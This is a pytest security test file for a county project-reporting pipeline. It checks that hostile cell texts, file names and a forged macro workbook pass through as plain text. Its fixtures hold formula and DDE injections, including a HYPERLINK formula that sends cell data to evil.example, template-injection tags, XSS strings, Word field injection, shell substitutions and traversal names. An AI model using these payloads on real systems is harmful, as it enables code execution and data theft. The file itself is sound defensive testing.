"""Hostile texts, names and files go down the whole line, and come out as text or not at all (reliability S1, S3, S4, S6, S7)."""

import io
import os
import shutil
import subprocess
import sys
import zipfile
from collections import Counter
from collections.abc import Iterator
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from lxml import etree, html

from tools.sample_county import problems, projects, workbooks
from tools.sample_county.drawing import drawn

ROOT = Path(__file__).parents[2]
PERIOD = "2023-04"
FORMULAS = tuple(
    f"{sign}{rest}"
    for sign in ("=", "+", "-", "@", "\t=", "\r=", "＝", "|", "%")
    for rest in ("cmd|'/c calc'!A0", 'HYPERLINK("http://evil.example/?"&A1,"点我")', "1+1", "DDE(\"cmd\";\"/c calc\";\"x\")", "SUM(A1:A9)")
)  # fmt: skip
TAGS = (
    "{{ 7*7 }}",
    "{%p for x in ().__class__.__base__.__subclasses__() %}",
    "{# 注释 #}",
    "{{ self.__init__.__globals__ }}",
    "{%tr endfor %}",
)
MARKUP = (
    "<script>alert(1)</script>", "<w:p><w:r><w:t>注入</w:t></w:r></w:p>", "]]>", "<!--", "&lt;b&gt;", "&#x41;", '"><img src=x onerror=alert(1)>',
    "</w:t></w:r><w:fldSimple w:instr=\"INCLUDETEXT C:/x\"/>", "javascript:alert(1)", "http://evil.example/", "file:///etc/passwd",
)  # fmt: skip
SIGNS = (
    "\u202e反写",
    "零\u200b宽",
    "\ufeff头",
    "a\u0301\u0301\u0301",
    "𠮷野家",
    "\uffff".replace("\uffff", "\ufffd"),
    "'单引号",
    "`反引号`",
    "%s%n",
    "../../x",
    "$(id)",
    "\\\\host\\x",
)
PAYLOADS = (*FORMULAS, *TAGS, *MARKUP, *SIGNS)
NAMES = (
    "=cmd&calc.xlsx",
    "%00.xlsx",
    "-rf.xlsx",
    "$(touch pwned).xlsx",
    "..__..__x.xlsx",
    "报表\u202excod.xlsx",
    "'; DROP TABLE figure;--.xlsx",
    "a" * 200 + ".xlsx",
)
SUSPECT_RELATIONS = ("hyperlink", "externalLink", "oleObject", "attachedTemplate", "aFChunk", "vbaProject", "control")


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return run_with(tmp_path_factory.mktemp("attacked"), list(PAYLOADS))


@pytest.fixture(scope="module")
def peaceful(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return run_with(tmp_path_factory.mktemp("peaceful"), [f"平常的文字{number}" for number in range(len(PAYLOADS))])


def run_with(workspace: Path, texts: list[str]) -> Path:
    """Run April with these texts in every text cell of two returns, and hostile names on the files."""
    shutil.copytree(ROOT / "templates", workspace / "templates")
    shutil.copy(ROOT / "config.yaml", workspace)
    (workspace / "inbox").mkdir()
    (project,), (problem, *_) = projects.rows("县教育局", PERIOD), problems.rows("县教育局", PERIOD)
    started = [
        {**project, "项目名称": f"工程{n}{text}", "形象进度": text + "正在施工", "存在问题": text, "备注": text}
        for n, text in enumerate(texts)
    ]
    idle = dict.fromkeys(("本月完成投资", "本年累计完成投资", "自开工累计完成投资", "上年底累计完成投资"), Decimal(0))
    waiting = {**idle, "是否开工": "未开工", "开工时间": None}
    late = [{**row, **waiting, "未开工原因": text + "手续未办结"} for row, text in zip(started, texts, strict=True)]
    found = [
        {**problem, "问题编号": f"WT-{n}", "涉及项目": text, "问题描述": text + "影响施工进场", "整改措施": text + "包保"}
        for n, text in enumerate(texts)
    ]
    books = [("县教育局", "重点项目", started), ("县教育局", "问题清单", found), ("青滩镇", "重点项目", late)]
    for name, (unit, form, rows) in zip(NAMES, books, strict=False):
        (workspace / "inbox" / name).write_bytes(workbooks.excel([drawn(unit, form, PERIOD, rows)]))
    for name in NAMES[len(books) :]:
        (workspace / "inbox" / name).write_bytes(b"PK\x03\x04 half a file")
    done = batch(workspace)
    assert done.returncode == 1, done.stderr + done.stdout
    return workspace


def batch(workspace: Path, *before: str) -> "subprocess.CompletedProcess[str]":
    command = [*before, sys.executable, "-m", "pipeline", "run", "--workspace", str(workspace), "--period", PERIOD]
    return subprocess.run(command, capture_output=True, text=True, cwd=ROOT, check=False)


def outputs(workspace: Path, ending: str) -> list[Path]:
    return sorted((workspace / "outbox").rglob(f"*{ending}"))


def parts(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def elements(path: Path) -> Counter[str]:
    """Elements of a Word file that could do something, counted."""
    found: Counter[str] = Counter()
    for name, content in parts(path).items():
        if name.endswith(".xml") and name.startswith("word/"):
            found += Counter(etree.QName(one).localname for one in etree.fromstring(content).iter("*"))
    return Counter(
        {
            name: count
            for name, count in found.items()
            if name in {"fldSimple", "instrText", "hyperlink", "altChunk", "object", "control", "sdt"}
        }
    )


def test_no_cell_of_any_workbook_we_write_is_a_formula_or_an_outside_link(attacked: Path) -> None:
    books = outputs(attacked, ".xlsx")
    assert len(books) > 5
    own = {formula for path in (attacked / "inbox").iterdir() if zipfile.is_zipfile(path) for formula in formulas(path)}
    for path in books:
        marked = "审核意见" in path.parts  # a unit's own workbook comes back with the sums the unit itself wrote
        assert set(formulas(path)) <= (own if marked else set()), path.name
        assert not [link for link in links(path) if link.startswith(("http", "file", "javascript", "\\\\"))], path.name


def formulas(path: Path) -> Iterator[tuple[str, str, str]]:
    for sheet in openpyxl.load_workbook(path):
        yield from (
            (sheet.title, cell.coordinate, str(cell.value)) for row in sheet.iter_rows() for cell in row if cell.data_type == "f"
        )


def links(path: Path) -> Iterator[str]:
    for sheet in openpyxl.load_workbook(path):
        for row in sheet.iter_rows():
            yield from (cell.hyperlink.target for cell in row if cell.hyperlink is not None and cell.hyperlink.target)


def test_hostile_texts_reach_the_summary_as_they_were_written(attacked: Path) -> None:
    (path,) = (attacked / "outbox" / PERIOD).glob("汇总表.xlsx")
    told = {str(cell.value) for sheet in openpyxl.load_workbook(path) for row in sheet.iter_rows() for cell in row if cell.value}
    lost = [text for text in (*TAGS, *MARKUP[:4], *FORMULAS[:10]) if not any(text.strip() in one for one in told)]
    assert lost == []


def test_no_notice_gains_a_field_a_link_or_an_object(attacked: Path, peaceful: Path) -> None:
    before = {path.name: elements(path) for path in outputs(peaceful, ".docx")}
    for path in outputs(attacked, ".docx"):
        gained = elements(path) - before.get(path.name, Counter()) if path.name in before else Counter()
        assert not {name for name in gained if name != "instrText"}, path.name
        for name, content in parts(path).items():
            if name.endswith(".rels"):
                kinds = {one.get("Type", "").rpartition("/")[2] for one in etree.fromstring(content)}
                modes = {one.get("TargetMode") for one in etree.fromstring(content)}
                assert not kinds & set(SUSPECT_RELATIONS), (path.name, name)
                assert "External" not in modes, (path.name, name)


def test_tags_in_the_data_are_printed_not_obeyed(attacked: Path) -> None:
    texts = [
        b"".join(content for name, content in parts(path).items() if name == "word/document.xml")
        for path in outputs(attacked, ".docx")
    ]
    assert all(b"49" not in text.replace(b"2023", b"") or b"{{ 7*7 }}" in text or b"7*7" not in text for text in texts)
    assert any(b"{{ 7*7 }}" in text for text in texts)


def test_nothing_is_written_outside_the_workspace_and_nothing_is_run(attacked: Path) -> None:
    assert not list(attacked.rglob("pwned"))
    assert not (attacked.parent / "x").exists()
    written = {path.relative_to(attacked).parts[0] for path in attacked.rglob("*")}
    assert written == {"config.yaml", "templates", "inbox", "outbox", "state"}
    assert all(".." not in path.name and not path.is_symlink() for path in (attacked / "outbox").rglob("*"))


def test_pages_show_hostile_names_as_text(attacked: Path) -> None:
    for path in outputs(attacked, ".html"):
        page = html.fromstring(path.read_bytes())
        assert not [one for one in page.iter("script") if "alert" in (one.text or "")], path.name
        assert not [name for one in page.iter("*") for name in one.attrib if name.startswith("on")], path.name
        assert not [link for link in page.xpath("//@href|//@src") if link.startswith(("javascript", "http", "file"))], path.name


def test_macros_and_embedded_objects_are_never_sent_on(tmp_path: Path) -> None:
    """A return with a macro and an outside link, wrong enough to be sent back: what goes back has neither."""
    workspace = tmp_path / "macro"
    shutil.copytree(ROOT / "templates", workspace / "templates")
    shutil.copy(ROOT / "config.yaml", workspace)
    (workspace / "inbox").mkdir()
    rows = [{**row, "开工时间": None} for row in projects.rows("县教育局", PERIOD)]
    plain = workbooks.excel([drawn("县教育局", "重点项目", PERIOD, rows)])
    (workspace / "inbox" / "带宏.xlsm").write_bytes(with_macro(plain))
    assert "退回：县教育局《重点项目》" in batch(workspace).stdout
    for path in outputs(workspace, ".xlsx") + outputs(workspace, ".xlsm"):
        assert not [name for name in parts(path) if "vba" in name.lower() or "externalLink" in name or "activeX" in name], (
            path.name
        )


def with_macro(content: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as before, zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as after:
        for name in before.namelist():
            part = before.read(name)
            if name == "[Content_Types].xml":
                part = part.replace(b"sheet.main+xml", b"sheet.macroEnabled.main+xml").replace(
                    b"officedocument.spreadsheetml.sheet.macro", b"officedocument.spreadsheetml.sheet.macro"
                )
                part = part.replace(
                    b"</Types>",
                    b'<Override PartName="/xl/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
                )
            if name == "xl/_rels/workbook.xml.rels":
                kind = b"http://schemas.microsoft.com/office/2006/relationships/vbaProject"
                relation = b'<Relationship Id="rId99" Type="' + kind + b'" Target="vbaProject.bin"/>'
                part = part.replace(b"</Relationships>", relation + b"</Relationships>")
            after.writestr(name, part)
        after.writestr("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0 a macro")
    return buffer.getvalue()


def test_a_batch_needs_no_network(attacked: Path, tmp_path: Path) -> None:
    isolated = ["unshare", "--user", "--map-root-user", "--net"]
    if shutil.which("unshare") is None or subprocess.run([*isolated, "true"], check=False, capture_output=True).returncode:
        pytest.skip("no network namespace can be made here")
    again = Path(shutil.copytree(attacked, tmp_path / "again"))
    for path in (again / "inbox").iterdir():
        os.utime(path, (1_600_000_000, 1_600_000_000))
    done = batch(again, *isolated)
    assert done.returncode == 1, done.stderr


@pytest.mark.skipif(shutil.which("strace") is None, reason="strace is not installed")
def test_neither_a_batch_nor_its_reading_children_make_a_socket_that_could_reach_out(attacked: Path, tmp_path: Path) -> None:
    again, trace = Path(shutil.copytree(attacked, tmp_path / "again")), tmp_path / "trace"
    shutil.rmtree(again / "state")
    watched = ("strace", "-f", "-qq", "-e", "trace=socket,connect,bind,sendto,execve", "-o", str(trace))
    if subprocess.run([*watched, "true"], check=False, capture_output=True).returncode:
        pytest.skip("strace may trace nothing here")
    done = batch(again, *watched)
    assert done.returncode == 1, done.stderr
    calls = trace.read_text().splitlines()
    assert sum("pipeline.reading.worker" in call for call in calls) >= 1
    assert [call for call in calls if "AF_" in call and "AF_UNIX" not in call] == []
